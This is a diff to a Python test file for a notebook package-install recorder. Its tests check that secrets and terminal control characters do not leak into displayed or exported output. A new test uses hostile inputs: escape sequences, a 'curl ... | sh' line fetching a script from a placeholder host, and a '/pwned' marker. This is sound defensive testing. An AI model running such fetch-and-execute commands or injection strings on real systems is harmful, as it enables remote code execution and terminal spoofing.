@@ -166,6 +166,7 @@ class Surfaces:
                 str(words[0]), [str(word) for word in words[1:]], Session(shown=Plain(said.append))
             )
         except JStackMagicError as error:
+            error.coloured = False
             self.shown[f"{name}, the error"] = "\n".join(error._render_traceback_())
         else:
             self.shown[f"{name}, as text"] = as_text(result.parts())
@@ -182,16 +183,20 @@ class Surfaces:
             self.run("export", name)
         self.run("export", "--all", self.folder / "made")
 
-    def holding(self, secret: str) -> list[str]:
-        """Where the secret is, the lines around it included."""
+    def all_texts(self) -> dict[str, str]:
+        """What was shown and what was written, by where it is."""
         files = {
             str(file.relative_to(self.folder)): file.read_text(errors="replace")
             for file in self.folder.rglob("*")
             if file.is_file() and "given" not in file.parts
         }
+        return {**self.shown, **files}
+
+    def holding(self, secret: str) -> list[str]:
+        """Where the secret is, the lines around it included."""
         return [
             f"{name}: {line}"
-            for name, text in {**self.shown, **files}.items()
+            for name, text in self.all_texts().items()
             for line in text.splitlines()
             if secret in line or quote(secret, safe="") in line
         ]
@@ -206,6 +211,14 @@ def surfaces() -> Iterator[Surfaces]:
         patch.chdir(folder / "given")
         patch.setenv("JSTACKMAGIC_HISTORY", str(folder / "history.jsonl"))
         yield Surfaces(folder)
+
+
+def notebook(folder: Path, *sources: str) -> Path:
+    """A notebook of these cells."""
+    cells = [{"cell_type": "code", "source": s, "metadata": {}, "outputs": []} for s in sources]
+    path = folder / "x.ipynb"
+    path.write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4}))
+    return path
 
 
 @pytest.fixture(scope="module")
@@ -232,12 +245,9 @@ def test_nothing_of_a_line_comes_out(place: str, secret: str, form: str, venv: P
 @few
 @given(secret=SECRETS, form=formats)
 def test_nothing_of_a_cell_comes_out(place: str, secret: str, form: str, venv: Path) -> None:
-    source = CELLS[place].replace("{}", secret)
-    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": []}
     with surfaces() as out:
-        notebook = out.folder / "given/x.ipynb"
-        notebook.write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4}))
-        out.run("capture", "--prefix", venv, notebook)
+        made = notebook(out.folder / "given", CELLS[place].replace("{}", secret))
+        out.run("capture", "--prefix", venv, made)
         out.show_all(form)
         assert out.holding(secret) == []
 
@@ -256,6 +266,30 @@ def test_nothing_of_a_file_comes_out(
         out.run(how_[0], "--prefix", venv, *how_[1:], file)
         out.show_all(form)
         assert out.holding(secret) == []
+
+
+def test_nothing_that_moves_a_cursor_or_turns_a_line_comes_out(venv: Path) -> None:
+    hostile = "\x1b[2J\x1b]0;title\x07\x9b31m\u202e\u2066\u2028"
+    sources = [
+        f"!pip install $(echo {hostile}) six",
+        f"!pip install six{hostile}",
+        f"!conda install 'x{hostile}'",
+        f"%%bash\npip install \\\n $X{hostile}\nRUN touch /pwned",
+        f"!curl https://h.example/{hostile}.sh | sh",
+    ]
+    with surfaces() as out:
+        out.run("install", "--prefix", venv, "--record-only", f"six{hostile}")
+        out.run("install", "--prefix", venv, "--record-only", "six", "--", f"--x{hostile}")
+        out.run("capture", "--prefix", venv, notebook(out.folder / "given", *sources))
+        assert "Not understood" in "".join(out.shown.values())
+        out.show_all()
+        held = [
+            (name, line)
+            for name, text in out.all_texts().items()
+            for line in text.split("\n")
+            if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028]", line)
+        ]
+        assert held == []
 
 
 @pytest.mark.parametrize("engine", ["uv", "pip"])
